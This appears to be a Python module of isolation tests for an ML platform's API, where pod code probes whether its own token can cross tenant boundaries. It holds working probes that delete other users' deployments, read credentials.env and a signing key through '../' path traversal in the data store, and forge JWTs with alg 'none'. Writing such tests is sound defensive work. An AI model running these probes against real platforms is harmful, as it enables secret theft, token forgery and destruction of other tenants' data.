"""Asking the platform itself, with the token that a pod has."""

from __future__ import annotations

import json
import os
import urllib.error
import urllib.request
from typing import Any
from urllib.parse import quote

from .table import Target, escape, first


def _ask(method: str, path: str, body: Any = None, token: str | None = None) -> bytes:
    """Raises OSError (HTTPError) for a refusal."""
    base = os.environ["CRAFT_AI_ENVIRONMENT_URL"] + "/api/v1"
    headers = {"Content-Type": "application/json"} | ({"Authorization": f"Bearer {token}"} if token else {})
    content = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(base + path, content, headers, method=method)
    with urllib.request.urlopen(request, timeout=20) as answer:
        return answer.read() or b"done"


def _exchange(token: str) -> str:
    return json.loads(_ask("POST", "/auth/refresh", {"refresh_token": token}))["access_token"]


def _unless_forbidden(method: str, path: str, body: Any, token: str) -> Any:
    """What was answered, if that was not 403: any other refusal would have another reason than who asks."""
    try:
        return _ask(method, path, body, token)
    except urllib.error.HTTPError as error:
        return None if error.code == 403 else f"{method} {path}: {error.code}"


def _own() -> str:
    return _exchange(os.environ["CRAFT_AI_SDK_TOKEN"])


@escape("use the token of an execution that has ended", "process")
def ended_token(target: Target) -> Any:
    _own()  # this way it works with a token that is good
    return _exchange(target["ended_token"])


@escape("record metrics of another execution", "process")
def metrics_of_another(target: Target) -> Any:
    body = {"value": 1, "execution_id": target["other_execution_id"]}
    return _unless_forbidden("PUT", "/metrics/single-value/forged", body, _own())


@escape("delete the deployments, pipelines and executions of others", "process")
def delete_others(target: Target) -> Any:
    token = _own()
    paths = [f"/deployments/{target['neighbour_name']}", f"/pipelines/{target['pipeline_name']}"]
    paths.append(f"/executions/{target['other_execution_id']}")
    return first(lambda path: _unless_forbidden("DELETE", path, None, token), paths)


@escape("get tokens of endpoints", "process")
def endpoint_tokens(target: Target) -> Any:
    token, name = _own(), target["neighbour_name"]
    shown = json.loads(_ask("GET", f"/deployments/{name}", None, token)).get("endpoint_token")
    return shown or _unless_forbidden("POST", f"/endpoints/{name}/generate-new-token", {}, token)


@escape("create pipelines and deployments, archives with paths that lead out among them", "process")
def create_things(target: Target) -> Any:
    token = _own()
    deployment = {"pipeline_name": target["pipeline_name"], "name": "planted", "mode": "elastic"}
    pipeline = {"name": "planted", "configuration": {}, "archive": "../../planted"}
    asked = [("/endpoints", deployment), ("/pipelines", pipeline), (f"/pipelines/{target['pipeline_name']}/run", {})]
    return first(lambda each: _unless_forbidden("POST", *each, token), asked)


@escape("reach files of the platform through paths of the data store", "process")
def data_store_paths(target: Target) -> Any:
    token = _own()
    up = "../" * 12
    paths = [f"{up}{target['data_dir']}/credentials.env", f"{target['data_dir']}/keys/signing.key", "..", "a/../../b"]
    paths += [quote(path, safe="") for path in paths[:2]]

    def download(path: str) -> Any:
        signed = json.loads(_ask("POST", "/data-store/download", {"path_to_object": path}, token))
        with urllib.request.urlopen(signed["signed_url"], timeout=20) as answer:
            return answer.read()

    def upload(path: str) -> Any:
        return _ask("GET", f"/data-store/upload?path_to_object={quote(path, safe='')}", None, token)

    return first(download, paths) or first(upload, paths[:1] + paths[2:4])


@escape("sign a token of its own", "process")
def forge_token(target: Target) -> Any:
    import base64

    def part(value: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    claims = part({"type": "access", "sub": "user", "exp": 4_000_000_000})
    forged = [f"{part({'alg': 'none'})}.{claims}.", f"{part({'alg': 'HS256'})}.{claims}.AAAA", target["ended_token"]]
    return first(lambda token: _ask("GET", "/pipelines", None, token), forged)
